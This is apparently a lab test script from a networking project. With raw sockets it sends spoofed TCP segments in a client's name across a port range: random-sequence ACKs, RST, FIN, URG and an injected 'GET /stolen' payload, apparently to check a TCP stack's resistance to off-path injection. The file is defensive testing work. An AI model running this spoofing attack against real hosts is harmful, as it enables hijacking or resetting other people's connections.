/**
 * Segments in a client's name from somebody who knows its address and its ports' range, run inside a namespace of the lab:
 * `node attacker.js CLIENT SERVER FIRST LAST`. Every port from FIRST to LAST gets one of each kind, with other numbers in
 * each sweep, until standard input ends; it prints a dot a sweep.
 */
import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { setImmediate as breathe } from 'node:timers/promises';
import { isMapped, parseAddress } from '../../../src/base/address.ts';
import { SOCKADDR_BYTES, writeSockaddr } from '../../../src/kernel/linux/address.ts';
import * as libc from '../../../src/kernel/linux/libc.ts';
import { allocate } from '../../../src/kernel/linux/memory.ts';
import { SOCK_RAW } from '../../../src/kernel/linux/socket.ts';
import { ACK, build, FIN, PSH, RST, type Segment, URG } from '../../kernel/router/frames.ts';

const AF_INET = 2;
const AF_INET6 = 10;
/** Whole packets, IP header included. */
const IPPROTO_RAW = 255;
const ETHERNET_BYTES = 14;
const PORTS_AT_A_TIME = 100;
const anyNumber = () => randomInt(2 ** 32);

/** What a sweep sends to each port. The extremes are as far from any number as numbers can be, or next to nothing. */
function kinds(): Array<Partial<Segment>> {
  const payload = Buffer.from('GET /stolen HTTP/1.1\r\nHost: local.test\r\n\r\n');
  const random = (): Partial<Segment> => ({ seq: anyNumber(), ack: anyNumber(), flags: ACK, window: 65_535 });
  return [
    random(),
    { ...random(), window: 0 },
    { ...random(), ack: 0 },
    { ...random(), seq: 0xffff_ffff, ack: 0x7fff_ffff },
    { ...random(), timestamps: [anyNumber(), anyNumber()] },
    { ...random(), timestamps: [anyNumber(), 0], sack: [[anyNumber(), anyNumber()]] },
    { ...random(), flags: ACK | PSH, payload },
    { ...random(), flags: ACK | URG, payload },
    { ...random(), flags: ACK | FIN },
    { ...random(), flags: FIN },
    { ...random(), flags: RST },
    { ...random(), flags: RST | ACK },
    { ...random(), hops: 1 },
  ];
}

/** One kind of segment, whose source port is changed in place, with the checksum (RFC 1624). */
class Shot {
  readonly #fd: number;
  readonly #packet;
  readonly #length: number;
  readonly #at: number;
  readonly #to = allocate(SOCKADDR_BYTES);
  readonly #toBytes: number;

  constructor(fd: number, segment: Segment) {
    const packet = build(segment).subarray(ETHERNET_BYTES);
    const address = parseAddress(segment.destination);
    this.#fd = fd;
    this.#length = packet.length;
    this.#at = isMapped(address) ? 20 : 40;
    this.#packet = allocate(packet.length);
    packet.copy(this.#packet.bytes);
    this.#toBytes = writeSockaddr(this.#to.bytes, { address, port: 0 });
  }

  fire(port: number): void {
    const { bytes } = this.#packet;
    const check = this.#at + 16;
    let sum = (~bytes.readUInt16BE(check) & 0xffff) + (~bytes.readUInt16BE(this.#at) & 0xffff) + port;
    while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
    bytes.writeUInt16BE(port, this.#at);
    bytes.writeUInt16BE(~sum & 0xffff, check);
    // What the interface's queue has no room for is not sent.
    libc.sendto(this.#fd, this.#packet.address, this.#length, 0, this.#to.address, this.#toBytes);
  }
}

const [source, destination, first, last] = process.argv.slice(2);
const fd = libc.socket(isMapped(parseAddress(source)) ? AF_INET : AF_INET6, SOCK_RAW, IPPROTO_RAW);
if (fd < 0) throw new Error('no raw socket');
let isOver = false;
void once(process.stdin.resume(), 'end').then(() => {
  isOver = true;
});
while (!isOver) {
  const plain = { source, destination, sourcePort: 0, destinationPort: 80, hops: 64, window: 0 };
  const shots = kinds().map(
    (kind) => new Shot(fd, { ...plain, seq: 0, ack: 0, flags: ACK, payload: Buffer.alloc(0), ...kind }),
  );
  for (let port = Number(first); port <= Number(last); port++) {
    for (const shot of shots) shot.fire(port);
    if (port % PORTS_AT_A_TIME === 0) await breathe();
  }
  process.stdout.write('.');
}
